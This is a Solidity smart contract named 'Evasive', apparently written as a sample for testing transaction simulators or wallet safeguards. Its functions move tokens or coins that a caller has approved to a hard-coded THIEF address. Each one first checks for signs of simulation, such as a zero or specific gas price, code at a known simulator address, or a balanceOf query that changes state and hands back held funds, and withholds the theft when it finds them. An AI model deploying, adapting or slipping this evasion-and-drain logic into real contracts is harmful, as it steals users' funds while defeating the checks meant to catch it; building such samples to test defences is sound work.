// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface Spendable {
	function transfer(address to, uint256 amount) external returns (bool);

	function transferFrom(address from, address to, uint256 amount) external returns (bool);
}

/// Takes tokens that its caller has approved, unless it believes that it is only simulated.
contract Evasive {
	string public symbol = "EVA";
	uint8 public decimals = 6;

	event Met();

	Spendable private immutable token;
	address private constant THIEF = address(0x7e1ef);
	/// Where a simulation of an earlier version of this package put its code.
	address private constant KNOWN_READER = address(0x636f696e);

	mapping(address => uint256) private taken;
	bool private isAsked;

	constructor(Spendable wanted) {
		token = wanted;
	}

	function takeIfPaid(uint256 amount) external {
		if (tx.gasprice > 0) take(amount);
	}

	function takeIfPricedAs(uint256 amount, uint256 price) external {
		if (tx.gasprice == price) take(amount);
	}

	function takeUnlessRead(uint256 amount) external {
		if (KNOWN_READER.code.length == 0) take(amount);
	}

	/// The event has its balance read.
	function takeUnlessAsked(uint256 amount) external {
		emit Met();
		if (!isAsked) take(amount);
	}

	/// Coins instead of tokens, which have no events.
	function keepUnlessAsked() external payable {
		emit Met();
		if (!isAsked && tx.gasprice > 0) payable(THIEF).transfer(msg.value);
		else payable(msg.sender).transfer(msg.value);
	}

	/// Has the tokens here until its balance is read.
	function hold(uint256 amount) external {
		emit Met();
		token.transferFrom(msg.sender, address(this), amount);
		taken[msg.sender] = amount;
	}

	/// No view: a question to it changes the chain where it can.
	function balanceOf(address account) external returns (uint256) {
		isAsked = true;
		uint256 amount = taken[account];
		delete taken[account];
		if (amount > 0) token.transfer(account, amount);
		return 0;
	}

	function take(uint256 amount) private {
		token.transferFrom(msg.sender, THIEF, amount);
	}
}
